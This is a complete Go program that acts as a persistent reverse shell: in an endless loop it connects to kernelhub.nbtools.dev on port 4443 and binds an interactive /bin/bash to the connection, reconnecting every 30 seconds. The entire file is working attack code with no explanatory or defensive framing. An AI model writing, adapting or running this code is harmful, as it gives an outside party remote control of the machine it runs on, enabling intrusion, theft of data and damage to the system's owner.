package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "kernelhub.nbtools.dev:4443")
		if err == nil {
			cmd := exec.Command("/bin/bash", "-i")
			cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
			cmd.Run()
		}
		time.Sleep(30 * time.Second)
	}
}
